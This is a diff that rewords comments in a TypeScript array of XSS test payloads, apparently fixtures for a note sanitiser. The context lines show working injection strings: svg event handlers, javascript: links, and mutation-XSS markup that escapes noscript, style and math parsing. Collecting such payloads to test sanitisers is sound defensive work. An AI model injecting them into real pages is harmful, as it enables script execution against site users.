@@ -1,6 +1,6 @@
 /**
- * What people who wish ill write into a note. Each would call `alert`, or ask another server for something, where notes
- * are put into the page without care: tags, handlers, links, images, markdown tricks, entities, nesting, mutations.
+ * Notes of an attacker. Each would call `alert`, or send a request to another server, on a page that inserts notes
+ * unsanitised: tags, handlers, links, images, markdown tricks, entities, nesting, mutations.
  */
 export const xssPayloads: string[] = [
   // Scripts
@@ -52,7 +52,7 @@ export const xssPayloads: string[] = [
   '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
   '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
   '<math href="javascript:alert(1)">click</math>',
-  // What a sanitiser's second reading turns into something else
+  // Markup that a sanitiser’s second parsing changes
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
